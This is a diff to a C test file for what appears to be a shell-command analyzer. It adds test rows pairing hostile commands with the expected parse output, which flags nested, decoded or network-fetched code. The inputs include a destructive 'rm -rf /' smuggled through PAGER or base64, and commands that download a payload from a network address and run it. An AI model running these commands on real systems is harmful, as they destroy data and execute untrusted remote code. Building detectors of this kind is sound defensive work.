@@ -95,6 +95,7 @@ static const struct row shells_rows[] = {
 	  "curl -s http://203.0.113.10/x ;; X=$(curl -s http://203.0.113.10/x) ;; "
 	  "echo $(curl -s http://203.0.113.10/x) ;; "
 	  "bash code?[$(curl -s http://203.0.113.10/x)~]<network>" },
+	{ "PAGER='rm -rf /' man ls", "", "rm -rf / {nested} ;; man ls" },
 };
 
 static const struct row interpreters_rows[] = {
@@ -180,6 +181,11 @@ static const struct row files_rows[] = {
 	{ "echo cm0gLXJmIC8= > x; base64 -d x > y; sh y", "c",
 	  "echo cm0gLXJmIC8= ;; base64 -d x ;; sh y code[rm -rf /]<decoded,literal> ;; "
 	  "rm -rf / {nested,decoded}" },
+	{ "T=$(mktemp); curl -s http://203.0.113.1/x > $T; chmod +x $T; $T", "c",
+	  "mktemp ;; T=$(mktemp) ;; curl -s http://203.0.113.1/x ;; chmod +x $(mktemp) ;; "
+	  "$(mktemp) code?[$(curl -s http://203.0.113.1/x)]<network> {unknown-name}" },
+	{ "curl -s http://203.0.113.1/x.tgz | tar xz; ./x/run", "c",
+	  "curl -s http://203.0.113.1/x.tgz ;; tar xz ;; ./x/run code?[]<network,decoded>" },
 };
 
 static void wrappers(void **state)
